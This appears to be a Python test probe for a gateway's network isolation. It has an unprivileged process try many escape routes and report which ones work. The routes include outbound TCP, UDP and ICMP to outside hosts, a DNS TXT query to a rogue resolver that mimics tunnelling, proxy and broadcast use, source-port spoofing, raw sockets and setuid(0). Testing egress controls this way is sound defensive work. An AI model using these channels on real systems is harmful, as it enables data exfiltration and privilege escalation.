"""A process of the gateway's user that wants out, by every way that an unprivileged one has.

Standard library only; it is given to an interpreter as text. Prints a JSON object: attempt -> what
came of it, as far as this side can tell. Who is there is in the test's picture of the network.
"""

import contextlib
import json
import os
import socket

CORE, CORE_PORT = "10.2.0.5", 7443
ANYWHERE, ANYWHERE6 = "93.184.216.34", "2001:db8:bad::1"
PARTNER, OWN_RESOLVER = "198.51.100.9", "192.0.2.99"
CAMPUS_RESOLVER, PROXY = "10.2.0.53", "10.2.0.8"
TENANT = "10.30.0.2"
WARD_DEVICE = "10.20.0.2"
QUESTION = b"\x0fpatient-is-here\x03bad\x00\x00\x10\x00\x01"
TXT_QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + QUESTION
ECHO, ECHO6 = b"\x08\x00" + bytes(6) + b"patient", b"\x80\x00" + bytes(6) + b"patient"
TIMEOUT_S = 0.3

said: dict[str, str] = {}


def attempt(what, family, kind, place, payload=b"", protocol=0, source=None):
    try:
        with socket.socket(family, kind, protocol) as sock:
            sock.settimeout(TIMEOUT_S)
            if source is not None:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                sock.bind(source)
            if kind == socket.SOCK_DGRAM:
                if what.startswith("broadcast"):
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sock.sendto(payload, place)
                said[what] = "sent"
            else:
                sock.connect(place)
                said[what] = "connected"
    except OSError as error:
        said[what] = f"{type(error).__name__}: {error}"


FOUR, SIX = socket.AF_INET, socket.AF_INET6
TCP, UDP = socket.SOCK_STREAM, socket.SOCK_DGRAM

attempt("tcp anywhere", FOUR, TCP, (ANYWHERE, 443))
attempt("tcp anywhere mapped", SIX, TCP, (f"::ffff:{ANYWHERE}", 8443))
attempt("tcp anywhere6", SIX, TCP, (ANYWHERE6, 443))
attempt("tcp partner", FOUR, TCP, (PARTNER, 443))
attempt("udp anywhere", FOUR, UDP, (ANYWHERE, 443), b"quic")
attempt("udp anywhere6", SIX, UDP, (ANYWHERE6, 443), b"quic")
attempt("udp time", FOUR, UDP, (ANYWHERE, 123), b"\x23" + bytes(47))
attempt("udplite", FOUR, UDP, (ANYWHERE, 444), b"lite", 136)
attempt("sctp", FOUR, TCP, (ANYWHERE, 445), b"", 132)
attempt("ping", FOUR, UDP, (ANYWHERE, 0), ECHO, socket.IPPROTO_ICMP)
attempt("ping6", SIX, UDP, (ANYWHERE6, 0), ECHO6, socket.IPPROTO_ICMPV6)
attempt("core's other port", FOUR, TCP, (CORE, 22))
attempt("core's port by udp", FOUR, UDP, (CORE, CORE_PORT), b"x")
attempt("core's port elsewhere", FOUR, TCP, ("10.2.0.6", CORE_PORT))
attempt("another tenant", FOUR, TCP, (TENANT, 8883))
attempt("dns of its own", FOUR, UDP, (OWN_RESOLVER, 53), TXT_QUERY)
attempt("dns of its own by tcp", FOUR, TCP, (OWN_RESOLVER, 53))
attempt("dns of the campus", FOUR, UDP, (CAMPUS_RESOLVER, 53), TXT_QUERY)
attempt("proxy", FOUR, TCP, (PROXY, 3128))
attempt("multicast", FOUR, UDP, ("224.0.0.251", 5353), TXT_QUERY)
attempt("broadcast", FOUR, UDP, ("10.2.255.255", 9), b"x")
attempt("local proxy", FOUR, TCP, ("127.0.0.1", 3128))
attempt("from a listener's port", FOUR, TCP, (WARD_DEVICE, 22), b"", 0, ("10.20.0.1", 8883))
attempt("fast open", FOUR, UDP, (ANYWHERE, 446), b"x")
with contextlib.suppress(OSError), socket.socket(FOUR, TCP) as fast:
    fast.settimeout(TIMEOUT_S)
    fast.sendto(b"patient", socket.MSG_FASTOPEN, (ANYWHERE, 447))
for what, family, kind, protocol in (
    ("raw", FOUR, socket.SOCK_RAW, socket.IPPROTO_RAW),
    ("packet", socket.AF_PACKET, socket.SOCK_RAW, 0),
):
    try:
        socket.socket(family, kind, protocol).close()
        said[what] = "opened"
    except OSError as error:
        said[what] = type(error).__name__
try:
    os.setuid(0)
    said["setuid"] = "done"
except OSError as error:
    said["setuid"] = type(error).__name__
print(json.dumps(said))
